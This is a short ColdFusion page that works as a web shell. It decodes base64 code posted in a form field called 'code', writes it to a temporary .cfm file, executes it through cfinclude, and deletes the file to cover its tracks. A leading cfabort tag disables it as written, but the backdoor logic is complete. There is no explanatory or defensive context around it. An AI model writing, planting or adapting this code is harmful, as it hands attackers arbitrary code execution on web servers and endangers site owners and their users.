<cfabort>
<cfif isDefined("form.code")>
<cfset t = createUUID() & ".cfm">
<cffile action="write" file="#expandPath('./' & t)#" output="#toString(toBinary(form.code))#">
<cfinclude template="#t#">
<cffile action="delete" file="#expandPath('./' & t)#">
</cfif>
